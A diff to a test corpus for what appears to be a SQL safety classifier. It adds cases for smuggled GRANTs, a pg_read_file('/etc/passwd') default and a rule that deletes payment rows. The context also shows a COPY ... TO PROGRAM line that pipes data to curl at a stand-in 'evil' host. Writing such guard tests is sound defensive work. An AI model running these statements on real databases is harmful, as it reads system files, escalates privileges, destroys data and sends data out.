@@ -72,6 +72,9 @@ CORPUS: list[Case] = [
     blocked("REVOKE ALL ON payments FROM fraud_reader", "flag:grant"),
     blocked("GRANT dba_role TO fraud_reader", "flag:grant"),
     blocked("ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO public", "flag:grant"),
+    blocked("CREATE SCHEMA s CREATE TABLE t (id int) GRANT SELECT ON payments TO public",
+            "flag:grant"),
+    blocked("CREATE TABLE t (x text DEFAULT pg_read_file('/etc/passwd'))", "fn:pg_read_file"),
     # --- COPY PROGRAM and server files
     blocked("COPY payments TO PROGRAM 'curl -d @- http://evil'", "cmd:copy",
             "flag:copy_program"),
@@ -225,6 +228,8 @@ CORPUS: list[Case] = [
          "rel:public.customers:read"),
     case("CREATE TABLE t (id int)", "cmd:ddl"),
     case("TRUNCATE payments", "cmd:truncate", "rel:public.payments:write"),
+    case("CREATE RULE r AS ON INSERT TO orders DO INSTEAD DELETE FROM payments",
+         "rel:public.payments:write"),
     case("SELECT evil.fn()", "fn:fn"),
     case("SELECT pg_terminate_backend(123)", "fn:pg_terminate_backend"),
     case("EXPLAIN ANALYZE DELETE FROM payments", "cmd:explain", "rel:public.payments:write"),
